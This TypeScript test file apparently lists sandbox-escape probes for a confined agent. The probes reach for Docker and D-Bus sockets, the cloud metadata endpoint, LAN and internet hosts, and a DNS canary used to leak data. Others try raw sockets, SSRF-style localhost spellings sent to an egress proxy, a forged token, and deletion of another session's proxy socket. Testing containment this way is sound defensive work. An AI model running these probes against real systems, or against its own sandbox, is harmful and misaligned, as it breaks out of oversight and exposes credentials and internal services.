import { BREACH, type EscapeAttempt, calls } from "./attempt.ts";

const SOCKETS = "use Socket qw(:DEFAULT inet_pton pack_sockaddr_in6); ";
const connect = (family: string, address: string): string =>
  `{ socket(my $s, ${family}, SOCK_STREAM, 0); connect($s, ${address}) and syswrite($s, "GET / HTTP/1.0\\r\\n\\r\\n") }`;
const send = (address: string): string =>
  `{ socket(my $s, AF_INET, SOCK_DGRAM, 0); send($s, "x", 0, ${address}) and print "${BREACH} sent\\n" }`;
const inet = (address: string, port: string): string =>
  `pack_sockaddr_in(${port}, inet_aton("${address}"))`;
/** What the network would have answered, had there been one. */
const reach = (address: string, port: number): string =>
  `{ socket(my $s, AF_INET, SOCK_STREAM, 0); my $r = eval { local $SIG{ALRM} = sub { die }; alarm 3; my $x = connect($s, ${inet(address, String(port))}); alarm 0; $x }; print "${BREACH} ${address}\\n" if $r || $@ || $!{ECONNREFUSED} }`;

/** Files of sockets are in the way of nobody who sees them; addresses need a network. */
export const SOCKET_FILES: readonly EscapeAttempt[] = [
  ...["control.sock", "warden.sock", "docker.sock", "bus", "agent.sock"].map(
    (name): EscapeAttempt => ({
      name: `speak to ${name}`,
      by: "perl",
      network: "open",
      run: `${SOCKETS} ${connect("AF_UNIX", `pack_sockaddr_un("{RUN}/${name}")`)}`,
      control: true,
    }),
  ),
  {
    name: "speak to services of the machine",
    by: "perl",
    network: "open",
    run: `${SOCKETS} for my $p ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/user/0/bus", "/tmp/.X11-unix/X0", "/var/run/nscd/socket") { socket(my $s, AF_UNIX, SOCK_STREAM, 0); print "${BREACH} $p\\n" if connect($s, pack_sockaddr_un($p)) }`,
  },
  {
    name: "find sockets by looking",
    run: `for s in $(find / -xdev -type s 2>/dev/null | grep -v ^/run/door); do echo ${BREACH} $s; done`,
  },
  {
    name: "speak to an abstract socket",
    by: "perl",
    run: `${SOCKETS} ${connect("AF_UNIX", 'pack("S a108", 1, "\\0{ABSTRACT}")')}`,
    control: true,
  },
];

export const ADDRESSES: readonly EscapeAttempt[] = [
  {
    name: "connect to the user's own services",
    by: "perl",
    run: SOCKETS + connect("AF_INET", inet("127.0.0.1", "{TCP}")),
    control: true,
  },
  {
    name: "connect to them over IPv6",
    by: "perl",
    run: SOCKETS + connect("AF_INET6", 'pack_sockaddr_in6({TCP6}, inet_pton(AF_INET6, "::1"))'),
    control: true,
  },
  {
    name: "send to them without a connection",
    by: "perl",
    run: `${SOCKETS} { socket(my $s, AF_INET, SOCK_DGRAM, 0); send($s, "x", 0, ${inet("127.0.0.1", "{UDP}")}) }`,
    control: true,
  },
  {
    name: "reach the machine by another of its names",
    by: "perl",
    run:
      SOCKETS +
      ["0.0.0.0", "127.1.2.3", "{LAN}"]
        .map((address) => connect("AF_INET", inet(address, "{TCP}")))
        .join(" "),
  },
  {
    name: "ask for the machine's cloud identity",
    by: "perl",
    run: SOCKETS + reach("169.254.169.254", 80) + reach("169.254.170.2", 80),
  },
  {
    name: "reach the local network",
    by: "perl",
    run:
      SOCKETS +
      ["10.0.0.1", "192.168.0.1", "192.168.1.1", "172.17.0.1"]
        .map((address) => reach(address, 22))
        .join(" "),
  },
  {
    name: "reach the internet",
    by: "perl",
    run: SOCKETS + reach("1.1.1.1", 443) + reach("8.8.8.8", 53),
  },
  {
    name: "smuggle words out by names",
    by: "perl",
    run:
      SOCKETS +
      send(inet("8.8.8.8", "53")) +
      send(inet("1.1.1.1", "53")) +
      ` print "${BREACH}\\n" if gethostbyname("canary.example.com");`,
  },
  {
    name: "send to everybody near",
    by: "perl",
    run: `${SOCKETS} { socket(my $s, AF_INET, SOCK_DGRAM, 0); setsockopt($s, SOL_SOCKET, SO_BROADCAST, 1); print "${BREACH}\\n" if send($s, "x", 0, ${inet("255.255.255.255", "9")}); print "${BREACH}\\n" if send($s, "x", 0, ${inet("224.0.0.1", "9")}) }`,
  },
  {
    name: "send raw packets",
    by: "perl",
    run: calls(
      'socket(my $a, 2, 3, 1) and print "BREACH icmp\\n"; socket(my $b, 17, 3, 0x300) and print "BREACH packet\\n"; socket(my $c, 2, 3, 255) and print "BREACH raw\\n";',
    ),
  },
  {
    name: "reach past the network: vsock and others",
    by: "perl",
    run: calls(
      'for my $f (40, 38, 31, 15, 36, 44) { for my $t (1, 2, 3, 5) { socket(my $s, $f, $t, 0) and print "BREACH family $f\\n" } }',
    ),
  },
  {
    name: "bring an interface of its own",
    run: `ip link add x type veth peer name y && echo ${BREACH}; ip addr add 10.9.9.9/24 dev lo && echo ${BREACH}; ip link add z type dummy && echo ${BREACH}`,
  },
];

const PROXY = 'host: "127.0.0.1", port: {DOOR}';

/** Through the door: only listed hosts, and none of them at an address of the user's own network. */
function knocks(name: string, paths: readonly string[], method = "CONNECT"): EscapeAttempt {
  return {
    name,
    by: "node",
    network: "door",
    run: `
const http = require("node:http");
const auth = "Basic " + Buffer.from("agent:" + process.env.TOKEN).toString("base64");
const knock = (path) => new Promise((resolve) => {
  const request = http.request({ ${PROXY}, method: ${JSON.stringify(method)}, path, headers: { "proxy-authorization": auth } });
  const say = (status) => { console.log(path, status); if (status === 200) console.log("${BREACH}"); resolve(); };
  request.on("connect", (answer) => say(answer.statusCode)).on("response", (answer) => { answer.resume(); say(answer.statusCode); });
  request.on("error", (error) => say(error.code)).end();
});
(async () => { for (const path of ${JSON.stringify(paths)}) await knock(path); })();`,
  };
}

export const DOOR: readonly EscapeAttempt[] = [
  knocks("ask the door for the user's own services", [
    "127.0.0.1:{TCP}",
    "localhost:{TCP}",
    "[::1]:{TCP6}",
    "0.0.0.0:{TCP}",
  ]),
  knocks("ask the door for them in other spellings", [
    "127.1:{TCP}",
    "2130706433:{TCP}",
    "0x7f000001:{TCP}",
    "017700000001:{TCP}",
    "[::ffff:127.0.0.1]:{TCP}",
    "localhost.:{TCP}",
    "LOCALHOST:{TCP}",
    "127.0.0.1%00.example.org:{TCP}",
  ]),
  knocks("ask the door for the cloud identity", [
    "169.254.169.254:80",
    "metadata.google.internal:80",
    "[fd00:ec2::254]:80",
  ]),
  knocks("ask the door for the local network", ["10.0.0.1:443", "192.168.1.1:443", "{LAN}:{TCP}"]),
  knocks("ask the door for a host that is not listed", [
    "example.org:443",
    "canary.example.com:443",
  ]),
  knocks(
    "ask the door to fetch",
    [
      "http://127.0.0.1:{TCP}/",
      "http://localhost:{TCP}/",
      "http://agent@localhost:{TCP}/",
      "http://169.254.169.254/latest/meta-data/",
    ],
    "GET",
  ),
  {
    name: "knock with another attempt's token",
    by: "node",
    network: "door",
    run: `const http = require("node:http"); const r = http.request({ ${PROXY}, path: "/mcp", method: "POST", headers: { authorization: "Bearer " + "0".repeat(32) } }, (a) => { console.log(a.statusCode); if (a.statusCode < 400) console.log("${BREACH}"); }); r.on("error", () => {}); r.end("{}");`,
  },
  {
    name: "find another attempt's door",
    run: `ls -laR /run/door; for s in $(find /run -type s); do [ "$s" = /run/door/s ] || echo ${BREACH} $s; done; echo x > /run/door/{ID}; rm -f /run/door/s && echo ${BREACH}`,
    network: "door",
  },
];
